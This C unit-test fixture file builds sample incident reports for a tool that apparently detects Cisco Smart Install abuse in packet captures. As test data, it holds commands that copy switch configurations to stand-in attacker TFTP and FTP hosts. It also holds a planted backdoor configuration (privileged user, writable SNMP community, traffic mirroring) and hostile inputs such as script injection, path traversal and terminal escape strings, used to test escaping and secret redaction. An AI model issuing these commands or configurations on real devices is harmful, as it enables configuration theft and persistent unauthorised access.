/* SPDX-License-Identifier: BSD-2-Clause */
#include "tests/unit/report/page_cases.h"

#include <stdio.h>
#include <stdlib.h>

#include "tests/unit/report/page_build.h"

static struct page_builder builder;


static const char stolen[] =
    "!\nversion 15.2\nservice timestamps log datetime msec\nno service password-encryption\n!\nhostname access-07\n!\n"
    "enable secret 5 $1$mERr$hx5rVt7rPNoS4wqbXKX7m0\n!\nusername netadmin privilege 15 secret 5 $1$abcd$0123456789abcdefghijkl\n"
    "aaa new-model\n!\nvtp mode transparent\n!\nvlan 10\n name office\n!\ninterface GigabitEthernet0/1\n description uplink\n"
    " switchport mode trunk\n!\ninterface Vlan1\n ip address 192.0.2.10 255.255.255.0\n!\nip default-gateway 192.0.2.1\n"
    "ip http server\n!\nlogging host 192.0.2.53\n!\nsnmp-server community n0t-public RO\ntacacs-server host 192.0.2.60 key 7 070C285F4D06\n"
    "!\nline con 0\nline vty 0 4\n password 7 0822455D0A16\n login local\n transport input ssh\n!\nend\n";

static const char planted[] =
    "!\nhostname access-07\n!\nenable secret 5 $1$zzzz$ZZZZZZZZZZZZZZZZZZZZZ1\nusername support privilege 15 secret 0 Winter2026\n"
    "no aaa new-model\n!\ninterface Vlan1\n ip address 192.0.2.10 255.255.255.0\n!\ninterface Tunnel0\n ip address 203.0.113.2 255.255.255.252\n"
    " tunnel source Vlan1\n tunnel destination 198.51.100.7\n!\nip default-gateway 192.0.2.1\nip http server\nno logging host 192.0.2.53\n"
    "snmp-server community wr1te-all RW\ntftp-server nvram:startup-config\naccess-list 10 permit any\n"
    "monitor session 1 source interface Gi0/1\nmonitor session 1 destination interface Gi0/24\n"
    "event manager applet keep\n event timer watchdog time 60\n action 1 cli command \"enable\"\n"
    "boot system flash:/old.bin\nvstack\n!\nline vty 0 4\n login local\n transport input telnet ssh\n!\nend\n";

static void build_one(void)
{
    page_add_input(&builder, "edge.pcap");
    page_add_device(&builder, "192.0.2.10", SMINI_STATE_ENABLED,
                    "sent capabilities_response (edge.pcap packet 4)");
    struct smini_incident *theft = page_add_incident(&builder, "198.51.100.7", "192.0.2.10", SMINI_VERDICT_CONFIG_EXFILTRATION,
                                                     SMINI_OUTCOME_SUCCEEDED);
    page_add_message(&builder, theft, "capabilities_request", false);
    page_add_message(&builder, theft, "capabilities_response", true);
    builder.now_ns += 9000000000U;
    page_add_message(&builder, theft, "backup_request", false);
    page_add_asked(theft, page_span("copy system:running-config flash:/config.text"));
    page_add_asked(theft, page_span("copy flash:/config.text tftp://198.51.100.7/192.0.2.10.conf"));
    page_add_file(&builder, theft, page_span("192.0.2.10.conf"), "ios-config", false, SMINI_TRANSFER_CLOSED, page_span(stolen));
    page_add_reason(theft, page_span("backup_request: copy system:running-config flash:/config.text; copy flash:/config.text "
                                     "tftp://198.51.100.7/192.0.2.10.conf (edge.pcap packet 7)"));
    page_add_reason(theft, page_span("the file 192.0.2.10.conf left the device, 1084 bytes (edge.pcap packet 10)"));
    page_add_reason(theft, page_span("the same actor asked before whether Smart Install is on (edge.pcap packet 1)"));
    builder.now_ns += 8040000000000U;
    struct smini_incident *plant = page_add_incident(&builder, "198.51.100.7", "192.0.2.10", SMINI_VERDICT_CONFIG_REPLACEMENT,
                                                     SMINI_OUTCOME_SUCCEEDED);
    page_add_message(&builder, plant, "download_config", false);
    page_add_message(&builder, plant, "status", true);
    page_add_asked(plant, page_span("tftp://198.51.100.7/my.conf"));
    page_add_file(&builder, plant, page_span("my.conf"), "ios-config", true, SMINI_TRANSFER_CLOSED, page_span(planted));
    page_add_reason(plant, page_span("download_config of tftp://198.51.100.7/my.conf (edge.pcap packet 22)"));
}

static void build_sweep(void)
{
    char address[32];
    page_add_input(&builder, "edge.pcap");
    for (int i = 1; i <= 150; i++) {
        snprintf(address, sizeof(address), "192.0.2.%d", i);
        bool on = i % 3 != 0;
        page_add_device(&builder, address, on ? SMINI_STATE_ENABLED : SMINI_STATE_UNKNOWN,
                        on ? "sent capabilities_response (edge.pcap packet 2)" : NULL);
        struct smini_incident *probe = page_add_incident(&builder, "198.51.100.7", address, SMINI_VERDICT_PROBE,
                                                         on ? SMINI_OUTCOME_ANSWERED : SMINI_OUTCOME_ATTEMPTED);
        page_add_message(&builder, probe, "capabilities_request", false);
        if (on)
            page_add_message(&builder, probe, "capabilities_response", true);
        builder.now_ns += 400000000U;
    }
    builder.now_ns += 7300000000000U;
    for (int i = 10; i < 16; i++) {
        char name[48];
        snprintf(address, sizeof(address), "192.0.2.%d", i);
        snprintf(name, sizeof(name), "%s.conf", address);
        bool whole = i != 13;
        struct smini_incident *theft = page_add_incident(&builder, "198.51.100.7", address, SMINI_VERDICT_CONFIG_EXFILTRATION,
                                                         i == 15  ? SMINI_OUTCOME_ATTEMPTED
                                                         : whole ? SMINI_OUTCOME_SUCCEEDED
                                                                 : SMINI_OUTCOME_UNKNOWN);
        page_add_message(&builder, theft, "backup_request", false);
        page_add_asked(theft, page_span("copy system:running-config tftp://203.0.113.9/out.conf"));
        if (i != 15) {
            page_add_file(&builder, theft, page_span(name), "ios-config", false, whole ? SMINI_TRANSFER_CLOSED : SMINI_TRANSFER_TRUNCATED,
                          page_span(stolen));
            theft->files[0].peer = page_address("203.0.113.9");
        }
        page_add_reason(theft, page_span("backup_request: copy system:running-config tftp://203.0.113.9/out.conf"));
        builder.now_ns += 5000000000U;
    }
    page_add_incident(&builder, "198.51.100.77", "192.0.2.20", SMINI_VERDICT_OVERFLOW_ATTEMPT, SMINI_OUTCOME_ATTEMPTED);
}

static void build_many(void)
{
    static const enum smini_verdict verdicts[] = {SMINI_VERDICT_CONFIG_EXFILTRATION, SMINI_VERDICT_CONFIG_REPLACEMENT,
                                                  SMINI_VERDICT_IMAGE_REPLACEMENT,   SMINI_VERDICT_COMMAND_EXECUTION,
                                                  SMINI_VERDICT_OVERFLOW_ATTEMPT,    SMINI_VERDICT_MALFORMED,
                                                  SMINI_VERDICT_DIRECTOR_ACTIVITY};
    page_add_input(&builder, "a.pcap");
    page_add_input(&builder, "b.pcapng");
    for (int i = 0; i < 230; i++) {
        char actor[32], device[32], name[32];
        snprintf(actor, sizeof(actor), "198.51.100.%d", i % 9 + 1);
        snprintf(device, sizeof(device), "10.%d.%d.2", i / 50, i);
        snprintf(name, sizeof(name), "file-%d.conf", i);
        page_add_device(&builder, device, i % 2 ? SMINI_STATE_ENABLED : SMINI_STATE_UNKNOWN, i % 2 ? "sent status (a.pcap packet 9)" : NULL);
        struct smini_incident *incident = page_add_incident(&builder, actor, device, verdicts[i % 7], (enum smini_outcome)(i % 5));
        incident->authorised = i % 7 == 6 ? SMINI_TRUST_YES : SMINI_TRUST_NO;
        page_add_message(&builder, incident, "backup_request", false);
        if (i % 4 == 0)
            page_add_message(&builder, incident, "status", true);
        if (i % 7 < 4)
            page_add_file(&builder, incident, page_span(name), "text", i % 7 != 0, (uint8_t)(i % 4 + 1), page_span("text\n"));
        builder.now_ns += (uint64_t)(i % 11) * 1000000000U;
    }
}

static void build_partial(void)
{
    static const char *const shortfalls[] = {"cut.pcap: the file ends inside a packet",
                                             "the limit of 65,536 flows was reached; 12 flows were let go early"};
    static struct smini_incident_network director, server;
    struct smini_page_input *input = page_add_input(&builder, "cut.pcap");
    input->trouble = "the file ends inside a packet";
    builder.page.shortfalls = shortfalls;
    builder.page.shortfall_count = 2;
    director.address = page_address("2001:db8:85a3:1111:2222:8a2e:370:7334");
    director.prefix = 128;
    server.address = page_address("192.0.2.0");
    server.prefix = 24;
    builder.page.directors = &director;
    builder.page.director_count = 1;
    builder.page.file_servers = &server;
    builder.page.file_server_count = 1;
    struct smini_incident *incident = page_add_incident(&builder, "2001:db8:85a3:1111:2222:8a2e:370:7335",
                                                        "2001:db8:ffff:eeee:dddd:cccc:bbbb:aaaa", SMINI_VERDICT_COMMAND_EXECUTION,
                                                        SMINI_OUTCOME_UNKNOWN);
    incident->authorised = SMINI_TRUST_NO;
    page_add_message(&builder, incident, "execute", false);
    page_add_asked(incident, page_span("tftp://[2001:db8:85a3:1111:2222:8a2e:370:7335]/execute.txt"));
    page_add_file(&builder, incident, page_span("execute.txt"), "ios-commands", true, SMINI_TRANSFER_TRUNCATED,
                  page_span("\"username ops privilege 15 secret 0 Spring2026\" \"snmp-server community all-of-it RW\" \"exit"));
    page_add_device(&builder, "192.0.2.77", SMINI_STATE_CLOSED, "refused a connection to port 4786 (cut.pcap packet 2)");
    builder.page.incidents_left_out = 3;
    struct smini_page_file *unordered = page_add_file(&builder, incident, page_span("switch-confg"), "ios-config", true,
                                                      SMINI_TRANSFER_CLOSED, page_span("hostname autoinstalled\nend\n"));
    incident->file_count--;
    unordered->client = page_address("192.0.2.77");
    unordered->server = page_address("192.0.2.1");
}

#define LONG_64 "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
#define LONG_512 LONG_64 LONG_64 LONG_64 LONG_64 LONG_64 LONG_64 LONG_64 LONG_64

static void build_hostile(void)
{
    static const char *const names[] = {
        "</code></td><script>alert(1)</script>",
        "\" onmouseover=\"alert(1)",
        "../../../../etc/passwd",
        "tftp\xe2\x80\xae" "fnoc.exe",
        "a\x01\x1b[31mred\x1b[0m\tb\nc\r\nd",
        "caf\xc3\xa9-\xe6\x97\xa5\xe6\x9c\xac.conf",
        "Z\xcc\x81\xcc\x82\xcc\x83\xcc\x84\xcc\x85" "algo",
        "\xff\xfe\x80\xc0\xaf overlong \xed\xa0\x80 surrogate \xef\xbf\xbf",
        "&lt;b&gt; &amp; &#x3c;script&#x3e; ]]> <!-- --> <![CDATA[",
        "\\x1b is not \x1b, \\u{202E} is not \xe2\x80\xae",
        "javascript:alert(1)",
        "\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d (right to left)",
        LONG_512 LONG_512,
    };
    page_add_input(&builder, "we <b>ird</b> \"name\" \xe2\x80\xae.pcap");
    for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
        struct smini_incident *incident = page_add_incident(&builder, "198.51.100.7", "192.0.2.10", SMINI_VERDICT_CONFIG_REPLACEMENT,
                                                            SMINI_OUTCOME_SUCCEEDED);
        page_add_message(&builder, incident, "download_config", false);
        page_add_asked(incident, page_span(names[i]));
        page_add_reason(incident, page_span(names[i]));
        page_add_file(&builder, incident, page_span(names[i]), "ios-config", true, SMINI_TRANSFER_CLOSED,
                      page_span(i % 2 ? "hostname </code><script>\nbanner motd ^C\n\x1b]0;owned\x07\n^C\nend\n" : names[i]));
        builder.now_ns += 1000000000U;
    }
    /* A text of 64 KB in one line, and a name of 64 KB. */
    char *large = malloc(65537);
    memset(large, 'x', 65536);
    memcpy(large, "sent ", 5);
    large[65536] = 0;
    struct smini_incident *incident = page_add_incident(&builder, "198.51.100.7", "192.0.2.11", SMINI_VERDICT_COMMAND_EXECUTION,
                                                        SMINI_OUTCOME_ATTEMPTED);
    page_add_asked(incident, page_span(large));
    page_add_file(&builder, incident, page_span(large), "ios-commands", true, SMINI_TRANSFER_UNCONFIRMED, page_span(large));
    page_add_device(&builder, "192.0.2.10", SMINI_STATE_ENABLED, large);
    page_add_device(&builder, "192.0.2.11", SMINI_STATE_ENABLED, "sent <img src=x onerror=alert(1)>");
    free(large);
}

/* Each planted secret begins alike, so that one search finds what leaked. */
#define S(word) "Zq9" word
const char *const page_case_secrets[] = {"Zq9", NULL};

static const char secret_text[] =
    "enable secret 5 $1$mERr$" S("enable5") "\nenable secret 9 $9$nhEmQVczB7dqsO$" S("enable9") "\nenable password " S("plain") "\n"
    "username a privilege 15 secret 0 " S("user0") "\nusername b password 7 " S("user7") "\nusername c password " S("userp") "\n"
    "snmp-server community " S("comm") " RW\nsnmp-server host 192.0.2.9 version 2c " S("traphost") "\n"
    "snmp-server user u g v3 auth sha " S("v3auth") " priv aes 128 " S("v3priv") "\n"
    "tacacs-server host 192.0.2.3 key 7 " S("tac") "\ntacacs-server key " S("tackey") "\nradius-server key 0 " S("rad") "\n"
    "radius server R\n address ipv4 192.0.2.4 auth-port 1812 acct-port 1813\n key 7 " S("radserver") "\n"
    "tacacs server T\n key " S("tacserver") "\ncrypto isakmp key " S("isakmp") " address 0.0.0.0\n"
    "crypto keyring K\n pre-shared-key address 0.0.0.0 0.0.0.0 key " S("keyring") "\n"
    "crypto ikev2 keyring V\n peer p\n  pre-shared-key local " S("ikev2") "\n"
    "key chain C\n key 1\n  key-string 7 " S("chain") "\nline vty 0 4\n password 7 " S("vty") "\nline con 0\n password " S("con") "\n"
    "interface Gi0/1\n ip ospf message-digest-key 1 md5 7 " S("ospfmd5") "\n ip ospf authentication-key " S("ospf") "\n"
    " standby 1 authentication md5 key-string " S("hsrp") "\n ppp chap password 0 " S("chap") "\n"
    "router bgp 65000\n neighbor 192.0.2.5 password " S("bgp") "\nntp authentication-key 1 md5 " S("ntp") " 7\n"
    "ip ftp password 7 " S("ftp") "\nip http client password " S("http") "\narchive\n path scp://user:" S("url") "@192.0.2.6/x\n"
    "wpa-psk ascii 0 " S("wpa") "\nvtp password " S("vtp") "\nldap server L\n bind authenticate root-dn cn=a password " S("ldap") "\n"
    "event manager applet E\n action 1 cli command \"username z privilege 15 secret 0 " S("eem") "\"\n"
    "crypto pki export X pem terminal 3des " S("pki") "\nend\n";

static const char secret_commands[] = "\"username x privilege 15 secret 0 " S("cmd1") "\" \"snmp-server community " S("cmd2") " RW\" "
                                      "\"enable secret 0 " S("cmd3") "\" \"copy running-config ftp://u:" S("cmd4") "@192.0.2.9/a\"";

static void build_secrets(void)
{
    static const char *const asked[] = {
        "ftp://admin:" S("askurl") "@198.51.100.7/my.conf",
        "copy running-config ftp://admin:" S("askcmd") "@198.51.100.7/x",
        "username x privilege 15 secret 0 " S("askuser"),
        "configure snmp-server community " S("askcomm") " RW",
        "enable secret 5 $1$mERr$" S("askenable"),
    };
    page_add_input(&builder, "edge.pcap");
    struct smini_incident *incident = page_add_incident(&builder, "198.51.100.7", "192.0.2.10", SMINI_VERDICT_COMMAND_EXECUTION,
                                                        SMINI_OUTCOME_SUCCEEDED);
    for (size_t i = 0; i < sizeof(asked) / sizeof(asked[0]); i++) {
        char reason[256];
        page_add_asked(incident, page_span(asked[i]));
        snprintf(reason, sizeof(reason), "backup_request: %s; %s (edge.pcap packet 3)", asked[i], asked[(i + 1) % 5]);
        page_add_reason(incident, page_span(reason));
    }
    page_add_device(&builder, "192.0.2.10", SMINI_STATE_ENABLED, "sent execute of ftp://admin:" S("evidence") "@198.51.100.7/e (edge.pcap packet 3)");
    page_add_file(&builder, incident, page_span("ftp://admin:" S("name") "@198.51.100.7/my.conf"), "ios-config", true, SMINI_TRANSFER_CLOSED,
                  page_span(secret_text));
    page_add_file(&builder, incident, page_span("startup-config"), "ios-config", false, SMINI_TRANSFER_CLOSED,
                  page_span(secret_text + strlen("enable secret 5 $1$mERr$Zq9enable5")));
    page_add_file(&builder, incident, page_span("execute.txt"), "ios-commands", true, SMINI_TRANSFER_CLOSED, page_span(secret_commands));
    struct smini_page_file *other = page_add_file(&builder, incident, page_span("other"), "text", true, SMINI_TRANSFER_CLOSED,
                                                  page_span("nothing\n"));
    incident->file_count--;
    other->name = page_span("ftp://admin:" S("other") "@198.51.100.7/other");
}

static void build_none(void)
{
    page_add_input(&builder, "quiet.pcap");
    builder.packet = 4711;

}

static const struct {
    const char *name;
    void (*build)(void);
} cases[] = {{"none", build_none},       {"one", build_one},         {"sweep", build_sweep},    {"many", build_many},
             {"hostile", build_hostile}, {"secrets", build_secrets}, {"partial", build_partial}};

const uint32_t page_case_count = sizeof(cases) / sizeof(cases[0]);
const char *const page_case_names[] = {"none", "one", "sweep", "many", "hostile", "secrets", "partial"};

const struct smini_page *page_case(const char *name)
{
    page_build_reset(&builder);
    for (uint32_t i = 0; i < page_case_count; i++) {
        if (strcmp(cases[i].name, name) != 0)
            continue;
        cases[i].build();
        return page_build_finish(&builder);
    }
    return NULL;
}

void page_case_free(void)
{
    page_build_reset(NULL);
}
